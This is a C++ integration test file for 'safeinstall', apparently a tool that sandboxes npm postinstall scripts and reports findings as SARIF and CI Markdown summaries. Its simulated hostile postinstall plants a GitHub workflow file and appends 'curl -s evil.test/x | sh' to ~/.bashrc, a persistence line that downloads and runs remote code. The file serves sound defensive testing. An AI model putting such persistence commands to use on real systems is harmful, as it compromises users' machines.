// The run as CI reads it: --sarif (SARIF 2.1.0, validated against the OASIS schema), the
// Markdown summary (--summary, or appended to $GITHUB_STEP_SUMMARY).
#include <unistd.h>

#include <catch2/catch.hpp>
#include <fstream>
#include <nlohmann/json.hpp>
#include <string>
#include <vector>

#include "tests/integration/harness.h"
#include "tests/integration/project_checks.h"
#include "tests/integration/skip.h"

using namespace safeinstall::test;
using nlohmann::json;

namespace {

// Installed by scripts/setup.sh from the npm registry, pinned by its hash.
constexpr const char* kSarifSchema = "/usr/local/share/safeinstall-tests/sarif-2.1.0.json";

// A postinstall as the hostile examples do it: a workflow planted in the project, a shell rc
// line in the home, and one ordinary expected write.
const std::string kHostile =
    "mkdir -p .github/workflows node_modules/x && echo 'on: push' > .github/workflows/x.yml && "
    "echo 'curl -s evil.test/x | sh' >> \"$HOME/.bashrc\" && echo ok > node_modules/x/i.js && "
    "echo 'note' > 'odd | name.txt'";

void require_valid_sarif(const std::string& path) {
  if (!path_exists(kSarifSchema)) {
    FAIL("the SARIF schema is missing at " << kSarifSchema << ": run scripts/setup.sh");
  }
  RunOptions options;
  options.timeout = std::chrono::milliseconds(30000);
  auto result =
      run({"/usr/bin/python3", SAFEINSTALL_SCHEMA_VALIDATOR, kSarifSchema, path}, options);
  INFO("SARIF validation of " << path << ":\n" << result.err);
  REQUIRE(result.exit_code == 0);
}

const json* result_with_rule(const json& sarif, const std::string& rule) {
  for (const auto& r : sarif.at("runs").at(0).at("results"))
    if (r.at("ruleId") == rule) return &r;
  return nullptr;
}

std::string location_of(const json& result) {
  return result.at("locations").at(0).at("physicalLocation").at("artifactLocation").at("uri");
}

}  // namespace

TEST_CASE("sarif: the report as SARIF 2.1.0 that the schema accepts, one result per finding",
          "[ci]") {
  Who who = GENERATE(Who::Root, Who::Unprivileged);
  SKIP_UNLESS_SANDBOX(who);
  Scenario s(who);
  host_write(s, "package.json", "{\"name\":\"demo\"}\n");
  std::string sarif_path = s.root() + "/out.sarif";
  auto run = s.run({"/bin/sh", "-c", kHostile},
                   {"--sarif", sarif_path, "--expect", "node_modules/**"}, kCleanCiEnv);
  CHECK(run.exit_code() == kExitSuspicious);
  REQUIRE(path_exists(sarif_path));
  require_valid_sarif(sarif_path);

  json sarif = json::parse(read_file(sarif_path));
  CHECK(sarif.at("version") == "2.1.0");
  const json& sarif_run = sarif.at("runs").at(0);
  CHECK(sarif_run.at("tool").at("driver").at("name") == "safeinstall");
  CHECK(sarif_run.at("invocations").at(0).at("exitCode") == 0);
  CHECK(sarif_run.at("invocations").at(0).at("properties").at("verdict") == "held");
  CHECK(sarif_run.at("invocations").at(0).at("executionSuccessful") == false);

  const json* workflow = result_with_rule(sarif, "protected-write");
  REQUIRE(workflow != nullptr);
  CHECK(workflow->at("level") == "error");
  CHECK(location_of(*workflow) == ".github/workflows/x.yml");
  const json* plant = result_with_rule(sarif, "persistence");
  REQUIRE(plant != nullptr);
  CHECK(plant->at("level") == "error");
  // A finding outside the project is shown at the project's manifest.
  CHECK(location_of(*plant) == "package.json");
  const json* odd = result_with_rule(sarif, "unexpected-write");
  REQUIRE(odd != nullptr);
  CHECK(location_of(*odd) == "odd%20%7C%20name.txt");
  // Each result names a rule the driver lists, at its index.
  const json& rules = sarif_run.at("tool").at("driver").at("rules");
  for (const auto& r : sarif_run.at("results"))
    CHECK(rules.at(r.at("ruleIndex").get<std::size_t>()).at("id") == r.at("ruleId"));
  CHECK(result_with_rule(sarif, "refused-egress") == nullptr);
}

TEST_CASE("the Markdown summary goes to --summary or is appended to GITHUB_STEP_SUMMARY", "[ci]") {
  Who who = GENERATE(Who::Root, Who::Unprivileged);
  SKIP_UNLESS_SANDBOX(who);
  Scenario s(who);
  std::string step_summary = s.root() + "/step-summary.md";
  std::ofstream(step_summary) << "## earlier step\n";
  REQUIRE(::chown(step_summary.c_str(), s.uid(), s.uid()) == 0);
  std::vector<std::string> env = kCleanCiEnv;
  env.push_back("GITHUB_STEP_SUMMARY=" + step_summary);

  auto held = s.run({"/bin/sh", "-c", kHostile}, {"--expect", "node_modules/**"}, env);
  CHECK(held.exit_code() == kExitSuspicious);
  std::string text = read_file(step_summary);
  CHECK(text.rfind("## earlier step\n", 0) == 0);
  CHECK(contains(text, "held as suspicious"));
  CHECK(contains(text, "| high | persistence |"));
  CHECK(contains(text, "| high | protected-write |"));
  // Paths are escaped: a pipe in a file name cannot break the table.
  CHECK(contains(text, "odd \\| name.txt"));

  std::string own = s.root() + "/own-summary.md";
  auto clean = s.run({"/bin/sh", "-c", "mkdir -p node_modules/y && echo y > node_modules/y/i.js"},
                     {"--expect", "node_modules/**", "--summary", own}, env);
  CHECK(clean.exit_code() == 0);
  CHECK(contains(read_file(own), "— promoted"));
  CHECK(contains(read_file(own), "No findings."));
  // --summary names the file: the job summary is left alone.
  CHECK(read_file(step_summary) == text);
}

TEST_CASE(
    "sarif: a --sarif file in a directory that cannot take the file fails before anything runs",
    "[ci]") {
  Who who = GENERATE(Who::Root, Who::Unprivileged);
  SKIP_UNLESS_SANDBOX(who);
  Scenario s(who);
  auto run = s.run({"/bin/sh", "-c", "echo ran > ran.txt"},
                   {"--sarif", s.root() + "/missing-dir/out.sarif"}, kCleanCiEnv);
  CHECK(run.exit_code() == 125);
  CHECK_FALSE(in_project(s, "ran.txt"));
  CHECK(contains(run.result.err, "missing-dir"));
}
